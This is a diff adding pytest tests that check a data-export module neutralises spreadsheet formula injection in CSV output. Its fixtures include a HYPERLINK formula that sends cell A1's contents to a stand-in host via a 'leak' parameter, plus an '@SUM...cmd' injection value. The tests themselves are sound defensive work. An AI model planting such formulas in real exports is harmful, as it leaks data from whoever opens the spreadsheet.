@@ -91,4 +91,54 @@ def test_datapackage_keys_resolve(casebase, tmp_path):
             )
 
 
-from analysis.export import SECTION_COLUMNS, export_tables, neutralise_formulas
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+
+
+def _casebase_with_formulas(tmp_path, seeds):
+    """A copy of the case base whose first rationale and English case name are formulas."""
+    from analysis.casebase import load_casebase
+
+    from .conftest import CASEBASE
+
+    copy = tmp_path / "casebase"
+    shutil.copytree(CASEBASE, copy)
+    case = sorted((copy / "cases").glob("*.yaml"))[0]
+    text = case.read_text(encoding="utf-8")
+    text = re.sub(
+        r"(?m)^(\s*rationale: ).*$", lambda m: m.group(1) + json.dumps(FORMULA), text, count=1
+    )
+    text = re.sub(r"(?m)^(name_en: ).*$", r"\1'@SUM(1+1)*cmd'", text, count=1)
+    case.write_text(text, encoding="utf-8")
+    return load_casebase(copy, seeds), case.stem
+
+
+def test_formulas_are_neutralised_numbers_kept(tmp_path, seeds):
+    cb, case_id = _casebase_with_formulas(tmp_path, seeds)
+    out = tmp_path / "tables"
+    export_tables(cb, out)
+    codings = pd.read_csv(out / "codings.csv", encoding="utf-8-sig", keep_default_na=False)
+    assert "'" + FORMULA in codings["rationale"].tolist()
+    assert FORMULA not in codings["rationale"].tolist()
+    assert not codings["rationale"].str.match(r"[=+\-@\t\r]").any()
+    cases = pd.read_csv(out / "cases.csv", encoding="utf-8-sig").set_index("case_id")
+    assert cases.loc[case_id, "name_en"] == "'@SUM(1+1)*cmd"
+    # Numbers stay numbers (an empty score is a not_reported mechanism: missing).
+    scores = codings["score"]
+    assert pd.to_numeric(scores[scores != ""]).notna().all()
+    assert (scores[codings["status"] == "not_reported"] == "").all()
+
+
+def test_neutralising_leaves_negative_numbers_alone():
+    df = pd.DataFrame({"value": [-2.5, 3.0], "unit": ["-5", "+x"], "quote": ["\tTAB", "-- a dash"]})
+    out = neutralise_formulas(df)
+    assert out["value"].tolist() == [-2.5, 3.0]
+    assert out["unit"].tolist() == ["-5", "'+x"]
+    assert out["quote"].tolist() == ["'\tTAB", "'-- a dash"]
+
+
+def test_datapackage_validates_with_frictionless(tmp_path, seeds):
+    frictionless = pytest.importorskip("frictionless")
+    cb, _ = _casebase_with_formulas(tmp_path, seeds)
+    export_tables(cb, tmp_path / "tables")
+    report = frictionless.validate(str(tmp_path / "tables" / "datapackage.json"))
+    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "note"])[:5]
